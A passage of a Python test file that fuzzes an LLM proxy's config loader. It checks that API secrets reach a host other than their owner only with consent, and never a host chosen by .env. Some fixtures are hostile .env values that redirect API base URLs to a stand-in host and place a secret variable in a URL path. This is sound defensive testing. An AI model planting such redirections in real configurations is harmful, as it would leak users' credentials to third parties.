        "api_key": st.sampled_from([*REFERENCES, "sk-theirs"]),
        "ssl_verify": st.sampled_from([True, False, "./ca.pem", "os.environ/VERIFY"]),
        "litellm_credential_name": st.just("c"),
    },
)
ITEMS = st.fixed_dictionaries(
    {
        "model_name": st.sampled_from(["m", "*", "openai/*"]),
        "litellm_params": st.tuples(some("model_list[].litellm_params."), PARAMS).map(
            lambda both: {**both[0], **both[1]}
        ),
    },
    optional={"model_info": some("model_list[].model_info.")},
)
CREDENTIAL = st.fixed_dictionaries(
    {}, optional={"api_base": st.sampled_from(BASES), "api_key": st.sampled_from(REFERENCES)}
)
TREES = st.fixed_dictionaries(
    {"model_list": st.lists(ITEMS, max_size=2)},
    optional={
        **{name: some(f"{name}.") for name in ("litellm_settings", "router_settings", "general_settings", "a2py")},
        "environment_variables": st.dictionaries(
            st.sampled_from(["SECTION", "OPENAI_BASE_URL", "OPENAI_API_KEY", "MISTRAL_API_KEY"]),
            st.sampled_from([*REFERENCES, f"https://{FILE_HOST}"]),
            max_size=2,
        ),
        "credential_list": CREDENTIAL.map(lambda values: [{"credential_name": "c", "credential_values": values}]),
    },
)
DOTENV = st.lists(
    st.sampled_from(
        [
            f"OPENAI_BASE_URL=https://{DOTENV_HOST}/v1",
            f"GROQ_API_BASE=http://{DOTENV_HOST}",
            f"OLLAMA_API_BASE=https://{DOTENV_HOST}",
            f"DOTENV_BASE=https://{DOTENV_HOST}/v1",
            f"DOTENV_BASE=https://{DOTENV_HOST}/${{{AWS}}}",
            f"OF_DOTENV=${{{GW}}}",
            "OF_DOTENV=theirs",
            "VERIFY=false",
        ]
    ),
    max_size=4,
)


def travels(dep: Deployment) -> list[str]:
    """Every text of a deployment that a wire may send, as far as this test can tell without one."""
    quirks = {name: getattr(dep.quirks, name) for name in dep.quirks.__dataclass_fields__}
    return [
        dep.model,
        dep.base,
        dep.query,
        dep.path,
        repr(dict(dep.headers)),
        repr(dep.extra_body),
        repr(dep.params),
        repr(quirks),
    ]


@settings(
    max_examples=250, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)
@given(tree=TREES, dotenv=DOTENV)
def test_no_secret_travels_that_nobody_was_asked_about(folder: Folder, tree: dict[str, Any], dotenv: list[str]) -> None:
    """Whatever a folder contains: a secret reaches another host than its owner's only as a pair, and never one that
    .env chose."""
    folder.write(".env", "\n".join(dotenv))
    try:
        config = folder.load(yaml.safe_dump(tree), CANARIES)
    except ConfigError:
        return
    deps = list(config.deployments)
    for name in ("m", "openai/gpt-5", "claude-x", "zzz", *config.aliases):
        with suppress(ApiError):
            deps += config.resolve(name)
    for dep in deps:
        way = pairs.find_route(dep.base, dep.ssl_verify, dep.headers)
        if dep.problem or way.loopback:
            continue
        for name, value in CANARIES.items():
            as_key, as_text = value in dep.key, any(value in text for text in travels(dep))
            if as_text or (as_key and not pairs.is_owned(name, way.vendor)):
                assert pairs.Pair(name, way.label) in config.pairs, dep
                assert DOTENV_HOST not in dep.base and config.pairs[pairs.Pair(name, way.label)].live, dep


def test_local_names_attributes_that_exist() -> None:
    """A name that is gone would exempt the next setting of that name from the user's consent."""
    attributes = {field.name for kind in (Settings, Server, Entry) for field in fields(kind)}
    assert attributes >= pairs.LOCAL


@pytest.mark.parametrize(
    "setting", ["a2py: {discover: %s}", "a2py: {drain_delay: %s}", "general_settings: {enable_drain_endpoint: %s}"]
)
def test_a_setting_that_is_never_sent_needs_no_consent(folder: Folder, setting: str) -> None:
    value = setting % "os.environ/SWITCH_TOKEN"
    entry = "model_list: [{model_name: m, litellm_params: {model: openai/x, api_key: k, api_base: 'https://h.example/v1'}}]\n"
    config = folder.load(entry + value, {"SWITCH_TOKEN": "1"})
    assert not [pair for pair in config.pairs if pair.variable == "SWITCH_TOKEN"]
